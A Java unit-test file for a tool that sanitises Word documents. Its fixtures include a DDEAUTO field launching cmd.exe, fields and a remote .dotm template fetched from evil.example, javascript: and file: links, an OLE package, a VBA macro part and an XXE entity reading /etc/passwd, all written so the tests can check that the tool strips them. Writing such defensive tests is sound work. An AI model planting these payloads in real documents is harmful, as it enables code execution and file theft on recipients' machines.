package fr.bastide.airlock.internal.ooxml;

import static org.assertj.core.api.Assertions.assertThat;

import fr.bastide.airlock.Outcome;
import fr.bastide.airlock.Reason;
import fr.bastide.airlock.Threat;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class WordDisarmTest {

  private static final String MAIN = "word/document.xml";

  private static String run(String inner) {
    return "<w:r>" + inner + "</w:r>";
  }

  private static String text(String words) {
    return run("<w:t>" + words + "</w:t>");
  }

  private static String paragraph(String inner) {
    return "<w:p>" + inner + "</w:p>";
  }

  private static String mark(String type) {
    return run("<w:fldChar w:fldCharType=\"" + type + "\"/>");
  }

  private static String code(String code) {
    return run("<w:instrText xml:space=\"preserve\">" + code + "</w:instrText>");
  }

  private static String field(String code, String result) {
    return mark("begin") + code + mark("separate") + text(result) + mark("end");
  }

  private static Passing pass(OfficeFiles file) throws IOException {
    Passing passing = Passing.of("lettre.docx", file.bytes(), "standard");
    assertThat(passing.faults()).isEmpty();
    return passing;
  }

  private static Passing body(String body) throws IOException {
    return pass(OfficeFiles.word(body));
  }

  @Test
  void plainTextLeavesAsItIs() throws IOException {
    Passing passing = body(paragraph(text("Compte rendu &amp; &lt;annexes&gt; 你好 😀")));
    assertThat(passing.threats()).isEmpty();
    assertThat(passing.part(MAIN)).contains("Compte rendu &amp; &lt;annexes&gt; 你好 😀");
  }

  @Test
  void theSameFileLeavesAsTheSameBytes() throws IOException {
    byte[] file = OfficeFiles.word(paragraph(text("un"))).bytes();
    assertThat(Passing.of("a.docx", file, "standard").parts())
        .isEqualTo(Passing.of("a.docx", file, "standard").parts());
  }

  @Test
  void macrosGoAndTheFormatWithoutMacrosIsWritten() throws IOException {
    OfficeFiles file =
        OfficeFiles.word(
                paragraph(text("bonjour")), "application/vnd.ms-word.document.macroEnabled")
            .raw(
                MAIN,
                "rId9",
                "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                "vbaProject.bin",
                "")
            .part("word/vbaProject.bin", new byte[] {1, 2, 3});
    Passing passing = Passing.of("lettre.docm", file.bytes(), "standard");
    assertThat(passing.faults()).isEmpty();
    assertThat(passing.name()).isEqualTo("lettre.docx");
    assertThat(passing.threats()).contains(Threat.MACRO);
    assertThat(passing.all()).doesNotContain("vba").doesNotContain("macro").contains("bonjour");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"",
        "dde excel \"x\"",
        "INCLUDETEXT \"http://evil.example/x\"",
        "INCLUDEPICTURE \"\\\\\\\\evil.example\\\\x.png\" \\d",
        "IMPORT \"http://evil.example/x\"",
        "LINK Excel.Sheet.8 \"\\\\\\\\evil\\\\x.xls\"",
        "RD \"http://evil.example/x\"",
        "MACROBUTTON AutoRun clic",
        "GOTOBUTTON ici clic",
        "DATABASE \\d \"evil\"",
        "ASK x \"?\"",
        "HYPERLINK \"file:///c:/evil.exe\"",
        "HYPERLINK \\\\\\\\evil\\\\share",
        "SET x DDEAUTO",
        "INVENTED evil"
      })
  void dangerousFieldsLeaveTheirResult(String instruction) throws IOException {
    String xml = instruction.replace("\"", "&quot;");
    Passing complex = body(paragraph(field(code(xml), "vu")));
    Passing simple =
        body(paragraph("<w:fldSimple w:instr=\"" + xml + "\">" + text("vu") + "</w:fldSimple>"));
    for (Passing passing : new Passing[] {complex, simple}) {
      assertThat(passing.threats()).isNotEmpty();
      assertThat(passing.part(MAIN)).contains("vu").doesNotContain("evil").doesNotContain("fld");
      assertThat(passing.part(MAIN).toUpperCase(java.util.Locale.ROOT)).doesNotContain("DDE");
    }
  }

  @Test
  void aFieldSplitOverRunsAndParagraphsIsReadWhole() throws IOException {
    Passing passing =
        body(
            paragraph(mark("begin") + code(" D") + code("DE"))
                + paragraph(code("AU") + code("TO c:\\evil.exe ") + mark("separate") + text("vu"))
                + paragraph(mark("end")));
    assertThat(passing.threats()).containsExactly(Threat.DYNAMIC_DATA_EXCHANGE);
    assertThat(passing.part(MAIN)).contains("vu").doesNotContain("evil").doesNotContain("AU");
  }

  @Test
  void aFieldWhoseNameIsTheResultOfAnotherGoes() throws IOException {
    String inner = field(code("QUOTE 68 68 69"), "DDE");
    Passing passing =
        body(
            paragraph(
                mark("begin")
                    + inner
                    + code(" c:\\evil.exe")
                    + mark("separate")
                    + text("vu")
                    + mark("end")));
    assertThat(passing.part(MAIN)).contains("vu").doesNotContain("evil").doesNotContain("DDE");
  }

  @Test
  void aDangerousFieldWithinAHarmlessOneGoes() throws IOException {
    Passing passing =
        body(
            paragraph(
                mark("begin")
                    + code("IF 1=1 ")
                    + field(code("DDEAUTO evil"), "x")
                    + mark("separate")
                    + text("vu")
                    + mark("end")));
    assertThat(passing.part(MAIN)).contains("vu").doesNotContain("evil");
  }

  @Test
  void fieldsWithoutEndGo() throws IOException {
    Passing passing = body(paragraph(mark("begin") + code("PAGE ") + text("reste")));
    assertThat(passing.part(MAIN)).doesNotContain("fldChar");
  }

  @Test
  void usefulFieldsStay() throws IOException {
    Passing passing =
        body(
            paragraph(
                field(code(" PAGE "), "1")
                    + field(code("TOC \\o &quot;1-3&quot; \\h"), "sommaire")
                    + field(code("HYPERLINK \\l &quot;_Toc1&quot;"), "ici")
                    + field(code("HYPERLINK &quot;https://www.service-public.fr/x&quot;"), "web")));
    assertThat(passing.threats()).isEmpty();
    assertThat(passing.part(MAIN)).contains("PAGE", "TOC", "_Toc1", "service-public");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "file:///c:/evil.exe",
        "\\\\evil\\share",
        "//evil/share",
        "javascript:evil()",
        "ms-word:ofe|u|http://evil/x",
        "search-ms:evil",
        "http://user:word@evil.example/",
        "data:text/html,evil"
      })
  void dangerousLinksGoAndTheirWordsStay(String target) throws IOException {
    Passing passing =
        pass(
            OfficeFiles.word(
                    paragraph("<w:hyperlink r:id=\"rId7\">" + text("cliquez") + "</w:hyperlink>"))
                .outside(MAIN, "rId7", "hyperlink", target));
    assertThat(passing.threats()).containsExactly(Threat.DANGEROUS_LINK);
    assertThat(passing.all()).contains("cliquez").doesNotContain("evil").doesNotContain("rId7");
  }

  @Test
  void webLinksFollowThePolicy() throws IOException {
    byte[] file =
        OfficeFiles.word(
                paragraph(
                    "<w:hyperlink r:id=\"rId7\">"
                        + text("site")
                        + "</w:hyperlink><w:hyperlink w:anchor=\"ici\">"
                        + text("là")
                        + "</w:hyperlink>"))
            .outside(MAIN, "rId7", "hyperlink", "https://www.legifrance.gouv.fr/a?b=1&c=2")
            .bytes();
    Passing standard = Passing.of("a.docx", file, "standard");
    Passing strict = Passing.of("a.docx", file, "strict");
    assertThat(standard.all()).contains("legifrance", "w:anchor=\"ici\"");
    assertThat(standard.threats()).isEmpty();
    assertThat(strict.all()).contains("site", "w:anchor=\"ici\"").doesNotContain("legifrance");
    assertThat(strict.threats()).contains(Threat.LINK);
    assertThat(strict.faults()).isEmpty();
  }

  @Test
  void objectsLeaveAsTheirPictures() throws IOException {
    String object =
        "<w:object><v:shape id=\"_x0000_i1\" o:ole=\"\" style=\"width:9pt;height:9pt\">"
            + "<v:imagedata r:id=\"rId5\" o:title=\"\"/></v:shape>"
            + "<o:OLEObject Type=\"Embed\" ProgID=\"Package\" ShapeID=\"_x0000_i1\""
            + " DrawAspect=\"Icon\" ObjectID=\"_1\" r:id=\"rId6\"/></w:object>";
    Passing passing =
        pass(
            OfficeFiles.word(paragraph(run(object)))
                .link(MAIN, "rId5", "image", "word/media/x.png")
                .link(MAIN, "rId6", "oleObject", "word/embeddings/evil.bin")
                .part("word/media/x.png", Pixels.png())
                .part("word/embeddings/evil.bin", new byte[] {1}));
    assertThat(passing.threats()).contains(Threat.EMBEDDED_OBJECT);
    assertThat(passing.part(MAIN)).contains("w:pict", "imagedata").doesNotContain("OLE");
    assertThat(passing.parts()).containsKey("word/media/image1.png");
    assertThat(passing.all()).doesNotContain("evil").doesNotContain("o:ole");
  }

  @Test
  void insertedFilesTemplatesAndMergesGo() throws IOException {
    Passing passing =
        pass(
            OfficeFiles.word(
                    "<w:altChunk r:id=\"rId4\"/>"
                        + paragraph(text("suite") + "<w:subDoc r:id=\"rId8\"/>"))
                .link(MAIN, "rId4", "aFChunk", "word/evil.html")
                .part("word/evil.html", "<script>evil()</script>".getBytes(StandardCharsets.UTF_8))
                .outside(MAIN, "rId8", "subDocument", "http://evil.example/sub.docx")
                .link(MAIN, "rId9", "settings", "word/settings.xml")
                .xml(
                    "word/settings.xml",
                    "<w:settings xmlns:w=\""
                        + OfficeFiles.W
                        + "\" xmlns:r=\""
                        + OfficeFiles.R
                        + "\"><w:attachedTemplate r:id=\"rId1\"/><w:mailMerge>"
                        + "<w:dataSource r:id=\"rId2\"/></w:mailMerge><w:docVars><w:docVar"
                        + " w:name=\"a\" w:val=\"evil\"/></w:docVars></w:settings>")
                .outside(
                    "word/settings.xml", "rId1", "attachedTemplate", "http://evil.example/t.dotm")
                .outside("word/settings.xml", "rId2", "mailMergeSource", "file:///evil.csv"));
    assertThat(passing.threats())
        .contains(
            Threat.EMBEDDED_FILE,
            Threat.REMOTE_DOCUMENT,
            Threat.EXTERNAL_TEMPLATE,
            Threat.DATA_CONNECTION);
    assertThat(passing.all()).contains("suite").doesNotContain("evil");
  }

  @Test
  void picturesFromOutsideGo() throws IOException {
    Passing passing =
        pass(
            OfficeFiles.word(
                    paragraph(
                        run("<w:drawing><a:blip r:link=\"rId5\"/></w:drawing>")
                            + run(
                                "<w:pict><v:shape><v:imagedata src=\"http://evil.example/b\""
                                    + " r:href=\"rId6\"/></v:shape></w:pict>")))
                .outside(MAIN, "rId5", "image", "http://evil.example/a.png")
                .outside(MAIN, "rId6", "image", "file://evil/b.png"));
    assertThat(passing.threats()).contains(Threat.EXTERNAL_CONTENT);
    assertThat(passing.all()).doesNotContain("evil");
  }

  @Test
  void unknownElementsAttributesAndPartsGo() throws IOException {
    Passing passing =
        pass(
            OfficeFiles.word(
                    paragraph(
                        "<w:invented>evil</w:invented><x:y xmlns:x=\"urn:evil\" x:z=\"1\"/>"
                            + "<w:r w:invented=\"evil\" onload=\"evil\"><w:t>texte</w:t></w:r>"))
                .raw(MAIN, "rId5", "urn:evil/odd", "odd.xml", "")
                .xml("word/odd.xml", "<evil/>"));
    assertThat(passing.threats()).containsExactly(Threat.UNKNOWN_PART);
    assertThat(passing.all()).contains("texte").doesNotContain("evil");
  }

  @Test
  void declarationsGo() throws IOException {
    OfficeFiles file = OfficeFiles.word("");
    file.part(
        MAIN,
        ("<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><w:document xmlns:w=\""
                + OfficeFiles.W
                + "\"><w:body><w:p><w:r><w:t>vu</w:t></w:r></w:p></w:body></w:document>")
            .getBytes(StandardCharsets.UTF_8));
    Passing passing = pass(file);
    assertThat(passing.threats()).containsExactly(Threat.ENTITY);
    assertThat(passing.all()).contains("vu").doesNotContain("passwd").doesNotContain("DOCTYPE");
  }

  @Test
  void oneBranchOfAlternatesLeaves() throws IOException {
    String alternate =
        "<mc:AlternateContent><mc:Choice xmlns:z=\"urn:evil\" Requires=\"z\"><w:r><w:t>un</w:t>"
            + "</w:r></mc:Choice><mc:Fallback><w:r><w:t>deux</w:t></w:r></mc:Fallback>"
            + "</mc:AlternateContent>";
    Passing passing = body(paragraph(alternate));
    assertThat(passing.part(MAIN)).contains("deux").doesNotContain(">un<").doesNotContain("evil");
  }

  @Test
  void strictAcceptsChangesAndTakesCommentsOut() throws IOException {
    OfficeFiles file =
        OfficeFiles.word(
                paragraph(
                    "<w:commentRangeStart w:id=\"0\"/><w:ins w:id=\"1\" w:author=\"evil\">"
                        + text("ajouté")
                        + "</w:ins><w:del w:id=\"2\" w:author=\"evil\"><w:r><w:delText>ôté"
                        + "</w:delText></w:r></w:del><w:commentRangeEnd w:id=\"0\"/>"
                        + run("<w:commentReference w:id=\"0\"/>")))
            .link(MAIN, "rId3", "comments", "word/comments.xml")
            .xml(
                "word/comments.xml",
                "<w:comments xmlns:w=\""
                    + OfficeFiles.W
                    + "\"><w:comment w:id=\"0\">"
                    + paragraph(text("secret"))
                    + "</w:comment></w:comments>");
    Passing strict = Passing.of("a.docx", file.bytes(), "strict");
    assertThat(strict.faults()).isEmpty();
    assertThat(strict.all())
        .contains("ajouté")
        .doesNotContain("ôté")
        .doesNotContain("secret")
        .doesNotContain("evil");
    assertThat(pass(file).all()).contains("ajouté", "ôté", "secret");
  }

  @Test
  void signedDocumentsAreHeldOrRebuilt() throws IOException {
    byte[] file =
        OfficeFiles.word(paragraph(text("acte")))
            .raw(
                "",
                "rId5",
                "http://schemas.openxmlformats.org/package/2006/relationships/"
                    + "digital-signature/origin",
                "_xmlsignatures/origin.sigs",
                "")
            .part("_xmlsignatures/origin.sigs", new byte[0])
            .raw(
                "_xmlsignatures/origin.sigs",
                "rId1",
                "http://schemas.openxmlformats.org/package/2006/relationships/"
                    + "digital-signature/signature",
                "sig1.xml",
                "")
            .xml("_xmlsignatures/sig1.xml", "<Signature/>")
            .bytes();
    assertThat(Passing.outcome("a.docx", file, "standard"))
        .isEqualTo(new Outcome.Refused(Reason.SIGNED));
    assertThat(Passing.of("a.docx", file, "lenient").threats()).contains(Threat.SIGNATURE);
  }

  @Test
  void whatIsTooDeepOrMalformedIsRefused() {
    String deep = "<w:sdt>".repeat(5_000) + "</w:sdt>".repeat(5_000);
    assertThat(Passing.outcome("a.docx", OfficeFiles.word(deep).bytes(), "standard"))
        .isEqualTo(new Outcome.Refused(Reason.TOO_DEEP, MAIN));
    assertThat(Passing.outcome("a.docx", OfficeFiles.word("<w:p>").bytes(), "standard"))
        .isEqualTo(new Outcome.Refused(Reason.MALFORMED, MAIN));
    String fields = paragraph(mark("begin")).repeat(3_000);
    assertThat(Passing.outcome("a.docx", OfficeFiles.word(fields).bytes(), "standard"))
        .isEqualTo(new Outcome.Refused(Reason.TOO_DEEP, MAIN));
  }
}
